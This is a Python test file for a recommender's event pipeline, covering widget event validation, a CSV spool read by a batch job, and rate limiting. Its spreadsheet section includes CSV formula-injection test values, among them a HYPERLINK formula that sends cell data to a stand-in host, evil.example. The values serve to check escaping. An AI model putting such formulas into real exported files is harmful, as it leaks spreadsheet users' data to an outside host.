"""Events from the widget: validation, the spool the batch reads, rate limits."""

from __future__ import annotations

import csv
import re
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from recommender.ids import is_valid_id
from recommender.ingest import read_events
from recommender.spool import FORMULA_PREFIXES, SPOOL_COLUMNS
from recommender.web.events import (
    MAX_EVENTS_PER_REQUEST,
    SCHEMA_ID_PATTERN,
    EventBatch,
    EventSpool,
    RateLimiter,
    SpoolError,
    read_spool,
    spool_rows,
)
from recommender.web.settings import TOKEN_PATTERN

RECEIVED = datetime(2021, 3, 8, 9, 30, 0, 123000, tzinfo=UTC)


def batch(*events: dict) -> EventBatch:
    return EventBatch.model_validate({"events": list(events)})


def test_spooled_events_are_read_back_by_the_batch_job(tmp_path: Path) -> None:
    spool = EventSpool(tmp_path / "events")
    spool.prepare()
    spool.add(
        spool_rows(
            batch(
                {"kind": "impression", "article_id": "st-1", "source_article_id": "jt-1"},
                {"kind": "click", "article_id": 'st,2 "q"', "placement": "below", "session": "s1"},
            ),
            RECEIVED,
        )
    )
    written = spool.flush()
    assert written is not None and written.parent == tmp_path / "events"
    assert written.name.startswith("events-") and written.suffix == ".csv"
    assert spool.flush() is None and len(spool) == 0  # nothing left: no empty file
    assert [p.name for p in (tmp_path / "events").iterdir()] == [written.name]

    loaded = read_events([tmp_path / "events" / "*.csv"])
    assert loaded.n_rejected == 0
    frame = loaded.valid
    assert frame["kind"].tolist() == ["impression", "click"]
    assert frame["article_id"].tolist() == ["st-1", 'st,2 "q"']
    assert frame["source_article_id"].tolist()[0] == "jt-1"
    assert pd.isna(frame["source_article_id"].tolist()[1])
    assert frame["placement"].tolist() == ["widget", "below"]
    assert (frame["ts"] == pd.Timestamp("2021-03-08T09:30:00.123Z")).all()


def test_files_appear_whole_and_in_time_order(tmp_path: Path) -> None:
    spool = EventSpool(tmp_path)
    names = []
    for n in range(3):
        spool.add(spool_rows(batch({"kind": "click", "article_id": f"a{n}"}), RECEIVED))
        written = spool.flush()
        assert written is not None
        names.append(written.name)
    assert names == sorted(names) and len(set(names)) == 3
    assert not list(tmp_path.glob(".*.tmp"))
    assert read_events(tmp_path / "*.csv").valid["article_id"].tolist() == ["a0", "a1", "a2"]


def test_a_failed_write_keeps_the_events_for_the_next_flush(tmp_path: Path) -> None:
    blocked = tmp_path / "events"
    blocked.write_text("a file where the folder should be")
    spool = EventSpool(blocked)
    spool.add(spool_rows(batch({"kind": "click", "article_id": "a1"}), RECEIVED))
    with pytest.raises(SpoolError, match=r"cannot write 1 events \(kept in memory"):
        spool.flush()
    assert len(spool) == 1
    with pytest.raises(SpoolError, match="cannot create the events folder"):
        spool.prepare()
    blocked.unlink()
    assert spool.flush() is not None and len(spool) == 0


def test_a_full_buffer_refuses_more(tmp_path: Path) -> None:
    spool = EventSpool(tmp_path, max_buffered=3)
    rows = spool_rows(batch(*[{"kind": "click", "article_id": "a"}] * 2), RECEIVED)
    assert spool.add(rows)
    assert not spool.add(rows) and len(spool) == 2


@pytest.mark.parametrize(
    "body, problem",
    [
        ({"events": []}, "at least 1 item"),
        ({"events": [{"kind": "view", "article_id": "a"}]}, "'impression' or 'click'"),
        ({"events": [{"kind": "click"}]}, "Field required"),
        ({"events": [{"kind": "click", "article_id": ""}]}, "at least 1 character"),
        ({"events": [{"kind": "click", "article_id": "a\nb"}]}, "character U\\+000A"),
        ({"events": [{"kind": "click", "article_id": "a\x85b"}]}, "character U\\+0085"),
        ({"events": [{"kind": "click", "article_id": "a\x9fb"}]}, "character U\\+009F"),
        ({"events": [{"kind": "click", "article_id": "a\u2028b"}]}, "character U\\+2028"),
        ({"events": [{"kind": "click", "article_id": "a", "source_article_id": "\u2029"}]}, "2029"),
        ({"events": [{"kind": "click", "article_id": "a\x7f"}]}, "character U\\+007F"),
        ({"events": [{"kind": "click", "article_id": " a"}]}, "leading or trailing whitespace"),
        ({"events": [{"kind": "click", "article_id": "a" * 257}]}, "at most 256"),
        ({"events": [{"kind": "click", "article_id": 7}]}, "valid string"),
        ({"events": [{"kind": "click", "article_id": "a", "ts": "2021"}]}, "Extra inputs"),
        ({"events": [{"kind": "click", "article_id": "a", "placement": "<b>"}]}, "pattern"),
        ({"events": [{"kind": "click", "article_id": "a"}] * 101}, "at most 100 items"),
        ({"event": []}, "Field required"),
    ],
)
def test_malformed_events_are_refused_with_a_reason(body: dict, problem: str) -> None:
    with pytest.raises(ValidationError, match=problem):
        EventBatch.model_validate(body)
    assert MAX_EVENTS_PER_REQUEST == 100


class FakeClock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_rate_limit_allows_a_burst_then_the_average_rate() -> None:
    clock = FakeClock()
    limiter = RateLimiter(rate=2.0, burst=3, clock=clock)
    assert [limiter.acquire("a") for _ in range(3)] == [0.0, 0.0, 0.0]
    assert limiter.acquire("a") == pytest.approx(0.5)  # one token back in 1/2 s
    assert limiter.acquire("b") == 0.0  # clients are counted apart
    clock.now += 0.5
    assert limiter.acquire("a") == 0.0
    assert limiter.acquire("a") > 0
    clock.now += 60
    assert [limiter.acquire("a") for _ in range(4)].count(0.0) == 3  # refilled to the burst


def test_rate_limit_forgets_the_least_recent_clients_beyond_its_bound() -> None:
    clock = FakeClock()
    limiter = RateLimiter(rate=1.0, burst=1, max_clients=2, clock=clock)
    for client in ("a", "b", "c"):
        assert limiter.acquire(client) == 0.0
    assert limiter.acquire("c") > 0  # still tracked
    assert limiter.acquire("a") == 0.0  # forgotten: a fresh bucket


@settings(max_examples=100, deadline=None)
@given(
    rate=st.floats(0.1, 100),
    burst=st.integers(1, 20),
    gaps=st.lists(st.floats(0, 2), min_size=1, max_size=60),
)
def test_rate_limit_never_allows_more_than_burst_plus_rate_times_time(
    rate: float, burst: int, gaps: list[float]
) -> None:
    clock = FakeClock()
    limiter = RateLimiter(rate=rate, burst=burst, clock=clock)
    allowed = 0
    for gap in gaps:
        clock.now += gap
        allowed += limiter.acquire("client") == 0.0
    assert allowed <= burst + rate * sum(gaps) + 1e-9


# -- the spool in a spreadsheet ---------------------------------------------------------

#: Ids a spreadsheet would run as formulas, and ids that look like their escaped form.
FORMULA_IDS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "'=1+1",
    "'plain",
    "''",
    "'",
    "a=b",
]


def spooled(tmp_path: Path, *events: dict) -> tuple[list[tuple[str, ...]], Path]:
    """The rows ``events`` make, and the spool file they are written to."""
    spool = EventSpool(tmp_path)
    rows = spool_rows(batch(*events), RECEIVED)
    assert spool.add(rows)
    written = spool.flush()
    assert written is not None
    return rows, written


def test_no_spool_cell_starts_a_formula_and_every_id_comes_back(tmp_path: Path) -> None:
    events = [
        {
            "kind": "click",
            "article_id": article_id,
            "source_article_id": article_id,
            "placement": "-below",
            "session": "-1",
        }
        for article_id in FORMULA_IDS
    ]
    rows, written = spooled(tmp_path, *events)
    with written.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert len(cells) == len(SPOOL_COLUMNS) * (len(events) + 1)
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}
    assert read_spool(written) == rows


_token = st.from_regex(re.compile(TOKEN_PATTERN.replace("$", r"\Z")))
_id = st.builds(
    lambda head, rest: head + rest,
    st.sampled_from(["", "=", "+", "-", "@", "'", "''", "'=", "'-", " "]),
    st.text(min_size=0, max_size=40),
).filter(is_valid_id)


@settings(max_examples=200, deadline=None)
@given(
    events=st.lists(
        st.fixed_dictionaries(
            {"kind": st.sampled_from(["impression", "click"]), "article_id": _id},
            optional={"source_article_id": _id, "placement": _token, "session": _token},
        ),
        min_size=1,
        max_size=5,
    )
)
def test_the_spool_gives_back_exactly_what_it_was_given(tmp_path_factory, events) -> None:
    rows, written = spooled(tmp_path_factory.mktemp("spool"), *events)
    assert read_spool(written) == rows
    with written.open(newline="", encoding="utf-8") as handle:
        assert not [c for row in csv.reader(handle) for c in row if c.startswith(FORMULA_PREFIXES)]


@settings(max_examples=500, deadline=None)
@given(
    value=st.builds(
        lambda head, body, tail: head + body + tail,
        st.sampled_from(["", " ", "\u3000", "\xa0", "\x85", "\u2028", "\x1c", "\ufeff"]),
        st.text(st.characters(exclude_categories=["Cs"]), max_size=20),
        st.sampled_from(["", " ", "\u205f", "\x9f", "\t", "\n"]),
    )
)
def test_the_spec_states_the_same_id_rule_as_the_validator(value: str) -> None:
    pattern = SCHEMA_ID_PATTERN.removeprefix("^").removesuffix("$")
    assert bool(re.fullmatch(pattern, value)) == is_valid_id(value)


def test_the_batch_reads_escaped_spool_ids_back_as_they_were_sent(tmp_path: Path) -> None:
    ids = ["=1+1", "-x", "+y", "@z", "'quoted", "''twice", "'=both", "plain"]
    events = [{"kind": "click", "article_id": i, "source_article_id": i} for i in ids]
    _, written = spooled(tmp_path, *events)
    assert "'=1+1" in written.read_text(encoding="utf-8")  # escaped on disk
    loaded = read_events(written)
    assert loaded.n_rejected == 0
    assert loaded.valid["article_id"].tolist() == ids
    assert loaded.valid["source_article_id"].tolist() == ids


def test_an_export_that_is_not_a_spool_keeps_its_quotes(tmp_path: Path) -> None:
    export = tmp_path / "pageviews.csv"
    export.write_text("ts,kind,article_id\n2021-03-08T09:00:00Z,view,'=kept\n", encoding="utf-8")
    assert read_events(export).valid["article_id"].tolist() == ["'=kept"]
